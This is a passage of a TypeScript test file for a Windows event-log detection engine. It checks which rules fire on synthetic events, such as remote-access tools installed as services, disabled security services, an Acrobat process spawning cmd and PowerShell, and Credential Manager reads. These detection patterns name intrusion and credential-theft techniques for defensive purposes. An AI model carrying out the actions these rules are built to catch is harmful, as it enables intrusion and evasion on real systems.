    const svc = (name: string, image: string): Ev => SCM(7045, { ServiceName: name, ImagePath: image, ServiceType: 'user mode service', StartType: 'auto start', AccountName: 'LocalSystem' });
    expect(found([svc('ScreenConnect Client (a1b2c3d4e5f6)', '"C:\\Program Files (x86)\\ScreenConnect Client (a1b2c3d4e5f6)\\ScreenConnect.ClientService.exe"')]).get(RAT)).toEqual({ level: 'low', tactics: ['command-and-control'] });
    expect(titles(svc('Mesh Agent', '"C:\\Program Files\\Mesh Agent\\MeshAgent.exe"'))).toContain(RAT);
    expect(titles(svc('Vendor Update Service', '"C:\\Program Files\\Vendor\\update.exe" /svc'))).not.toContain(RAT);
    const R4697 = 'Remote Access Tool Installed As A Service (Security 4697)';
    expect(titles(S(4697, { SubjectUserName: 'alice', ServiceName: 'RustDesk', ServiceFileName: '"C:\\Program Files\\RustDesk\\rustdesk.exe" --service', ServiceType: '0x10', ServiceStartType: '2' }))).toContain(R4697);
    expect(titles(S(4697, { SubjectUserName: 'alice', ServiceName: 'updsvc', ServiceFileName: 'C:\\Program Files\\Vendor\\updsvc.exe', ServiceType: '0x10', ServiceStartType: '2' }))).not.toContain(R4697);
  });

  it('safe-mode boots (medium), security services set from automatic to manual (low), Remote Registry enabled (low); their near misses are not', () => {
    const boot = (mode: number): Ev => w('System', 'Microsoft-Windows-Kernel-General', 12, { MajorVersion: 10, MinorVersion: 0, BuildVersion: 19041, BootMode: mode, StartTime: '2024-01-01T08:00:00Z' });
    const SAFE = 'Computer Started In Safe Mode (Kernel-General 12)';
    expect(found([boot(1)]).get(SAFE)).toEqual({ level: 'medium', tactics: ['defense-impairment'] });
    expect(titles(boot(2))).toContain(SAFE);
    expect(titles(boot(0))).not.toContain(SAFE);
    const st = (name: string, key: string, from: string, to: string): Ev => SCM(7040, { param1: name, param2: from, param3: to, param4: key });
    const MANUAL = 'Security Or Logging Service Changed From Automatic To Manual Start (System 7040)';
    expect(found([st('Sysmon64', 'Sysmon64', 'auto start', 'demand start')]).get(MANUAL)).toEqual({ level: 'low', tactics: ['defense-impairment'] });
    expect(titles(st('Microsoft Defender Antivirus Service', 'WinDefend', 'auto start', 'demand start'))).toContain(MANUAL);
    expect(titles(st('Background Intelligent Transfer Service', 'BITS', 'auto start', 'demand start'))).not.toContain(MANUAL);
    expect(titles(st('Sysmon64', 'Sysmon64', 'demand start', 'auto start'))).not.toContain(MANUAL);
    const RR = 'Remote Registry Service Enabled (System 7040)';
    expect(found([st('Remote Registry', 'RemoteRegistry', 'disabled', 'demand start')]).get(RR)).toEqual({ level: 'low', tactics: ['credential-access', 'discovery'] });
    expect(titles(st('Remote Registry', 'RemoteRegistry', 'auto start', 'disabled'))).not.toContain(RR);
  });

  it('Routing and Remote Access: VPN users connected (informational, initial access) and refused (informational); disconnections are not', () => {
    const ras = (id: number, data: string[]): Ev => w('System', 'RemoteAccess', id, { Data: data });
    expect(found([ras(20250, ['{c}', 'CORP\\alice', 'VPN2-12', 'has been authenticated'])]).get('Remote Access VPN User Connected (RemoteAccess 20250/20274)')).toEqual({ level: 'informational', tactics: ['initial-access', 'persistence'] });
    expect(found([ras(20271, ['CORP\\alice', '198.51.100.23', 'denied', '691'])]).get('Remote Access VPN Authentication Failed (RemoteAccess 20271)')).toEqual({ level: 'informational', tactics: ['credential-access'] });
    expect(titles(ras(20272, ['{c}', 'CORP\\alice', 'VPN2-12', '60']))).toEqual([]);
    expect(titles(w('System', 'Service Control Manager', 20250, { param1: 'x' }))).toEqual([]);
  });

  it('antivirus reports in the Application log: Microsoft Antimalware threats (high), third-party products naming a detection (medium); scans and definition updates are not', () => {
    const MSE = 'Microsoft Antimalware Threat Detected (System Center Endpoint Protection)';
    expect(found([w('Application', 'Microsoft Antimalware', 1116, { 'Threat Name': 'Trojan:Win32/Wacatac.B!ml', 'Severity Name': 'Severe', Path: 'file:_C:\\Users\\bob\\Downloads\\x.exe' })]).get(MSE)).toEqual({ level: 'high', tactics: ['execution'] });
    expect(titles(w('Application', 'Microsoft Antimalware', 1000, { 'Scan Type': 'Antimalware', 'Scan Parameters': 'Quick Scan' }))).toEqual([]);
    const AV = 'Third-Party Antivirus Reported A Threat In The Application Log';
    expect(found([w('Application', 'Symantec Endpoint Protection Client', 5, { Data: ['Virus found,Computer name: SRV01,Source: Real Time Scan,Risk name: Trojan.Gen.2,File path: C:\\Users\\bob\\Downloads\\x.exe,Actual action: Quarantined'] })]).get(AV)).toEqual({ level: 'medium', tactics: ['execution'] });
    expect(titles(w('Application', 'Sophos Anti-Virus', 32, { Data: ["Malware 'Mal/Generic-S' detected in file C:\\Users\\bob\\Downloads\\x.exe."] }))).toContain(AV);
    expect(titles(w('Application', 'Symantec Endpoint Protection Client', 7, { Data: ['New virus definition file loaded. Version: 2024-01-01 rev. 002.'] }))).not.toContain(AV);
    expect(titles(w('Application', 'Vendor Backup', 1, { Data: ['Malware scan of the backup set finished'] }))).not.toContain(AV);
    expect(titles(w('Application', 'ESET Security', 2, { Data: ['Threat detected: Win32/Agent.ABC trojan in C:\\Users\\bob\\Downloads\\x.exe'] }))).toContain(AV);
    // Product names are matched whole: a provider whose name merely holds the letters (ResetEngine) is not a product.
    expect(titles(w('Application', 'Microsoft-Windows-ResetEngine', 1, { Data: ['Malware cleanup task finished'] }))).not.toContain(AV);
  });

  it('Defender controlled folder access blocks (1123/1127, medium, impact); audit-mode 1124 is not', () => {
    const CFA = 'Defender Controlled Folder Access Blocked A Program';
    const def = (id: number): Ev => w('Microsoft-Windows-Windows Defender/Operational', 'Microsoft-Windows-Windows Defender', id, { Path: 'C:\\Users\\bob\\Documents\\budget.xlsx', 'Process Name': 'C:\\Users\\bob\\AppData\\Local\\Temp\\enc.exe' });
    expect(found([def(1123)]).get(CFA)).toEqual({ level: 'medium', tactics: ['impact'] });
    expect(titles(def(1127))).toContain(CFA);
    expect(titles(def(1124))).not.toContain(CFA);
  });

  it('AppLocker 8002 allowed runs of discovery, RDP, runas, WMIC and proxy programs (informational, one tactic family each); other programs and blocks are not', () => {
    const al = (id: number, file: string): Ev => w('Microsoft-Windows-AppLocker/EXE and DLL', 'Microsoft-Windows-AppLocker', id, { PolicyName: 'EXE', RuleName: '(Default Rule) All files located in the Windows folder', TargetUser: 'S-1-5-21-1-2-3-1104', FilePath: '%SYSTEM32%\\x.exe', FullFilePath: file });
    expect(found([al(8002, 'C:\\Windows\\system32\\whoami.exe')]).get('Discovery Tool Allowed To Run By AppLocker (8002)')).toEqual({ level: 'informational', tactics: ['discovery'] });
    expect(found([al(8002, 'C:\\Windows\\System32\\mstsc.exe')]).get('Remote Desktop Client Or Session Tool Allowed To Run By AppLocker (8002)')).toEqual({ level: 'informational', tactics: ['lateral-movement'] });
    expect(found([al(8002, 'C:\\Windows\\System32\\runas.exe')]).get('Runas Allowed To Run By AppLocker (8002)')).toEqual({ level: 'informational', tactics: ['privilege-escalation', 'stealth'] });
    expect(found([al(8002, 'C:\\Windows\\System32\\wbem\\WMIC.exe')]).get('WMIC Allowed To Run By AppLocker (8002)')).toEqual({ level: 'informational', tactics: ['execution'] });
    expect(found([al(8002, 'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe')]).get('Signed Proxy Binary Allowed To Run By AppLocker (8002)')).toEqual({ level: 'informational', tactics: ['stealth'] });
    expect(titles(al(8002, 'C:\\Windows\\System32\\notepad.exe'))).toEqual([]);
    expect(titles(al(8002, 'C:\\Users\\bob\\tools\\notwhoami.exe'))).toEqual([]);
    expect(titles(al(8004, 'C:\\Windows\\system32\\whoami.exe'))).not.toContain('Discovery Tool Allowed To Run By AppLocker (8002)');
  });

  it('RD Gateway: a user connected to a resource (informational), refusals and connections with an error code (low); disconnections are not', () => {
    const gw = (id: number, code: number): Ev => w('Microsoft-Windows-TerminalServices-Gateway/Operational', 'Microsoft-Windows-TerminalServices-Gateway', id, { Username: 'CORP\\alice', IpAddress: '198.51.100.23', AuthType: 'NTLM', Resource: 'srv02.corp.example', ConnectionProtocol: 'HTTP', ErrorCode: code });
    const OK = 'RD Gateway User Connected To A Resource (302)';
    const FAIL = 'RD Gateway Connection Refused Or Failed';
    expect(found([gw(302, 0)]).get(OK)).toEqual({ level: 'informational', tactics: ['initial-access', 'persistence', 'lateral-movement'] });
    expect(titles(gw(302, 0))).not.toContain(FAIL);
    expect(found([gw(302, 1226)]).get(FAIL)).toEqual({ level: 'low', tactics: ['credential-access'] });
    expect(titles(gw(302, 1226))).not.toContain(OK);
    expect(titles(gw(201, 23003))).toContain(FAIL);
    expect(titles(gw(303, 0))).toEqual([]);
  });

  it('Exploit protection blocking a shell started by a document reader (Security-Mitigations 4, high, execution); other children are not', () => {
    const BLOCKED = 'Exploit Protection Blocked A Shell Or Script Host Started By A Document Reader, Browser Or Office Program';
    const child = (id: number, image: string): Ev => w('Microsoft-Windows-Security-Mitigations/KernelMode', 'Microsoft-Windows-Security-Mitigations', id, { ProcessPath: '\\Device\\HarddiskVolume3\\Program Files\\Adobe\\Acrobat DC\\Acrobat\\Acrobat.exe', ProcessCommandLine: '"Acrobat.exe" --type=renderer', ChildImagePath: image, ChildCommandLine: 'cmd.exe /c start powershell' });
    expect(found([child(4, '\\Device\\HarddiskVolume3\\Windows\\System32\\cmd.exe')]).get(BLOCKED)).toEqual({ level: 'high', tactics: ['execution'] });
    expect(titles(child(3, '\\Device\\HarddiskVolume3\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe'))).toContain(BLOCKED);
    expect(titles(child(4, '\\Device\\HarddiskVolume3\\Windows\\splwow64.exe'))).not.toContain(BLOCKED);
  });

  it('Credential Manager reads that returned nothing are left out of the 5379 rule', () => {
    const CM = 'Credential Manager Credentials Read Or Backed Up';
    const read = (count: number): Ev => S(5379, { SubjectUserName: 'alice', TargetName: 'Domain:target=TERMSRV/srv02', Type: 2, CountOfCredentialsReturned: count, ReadOperation: '%%8100', ReturnCode: 0 });
    expect(found([read(3)]).get(CM)?.level).toBe('low');
    expect(titles(read(0))).not.toContain(CM);
  });
});
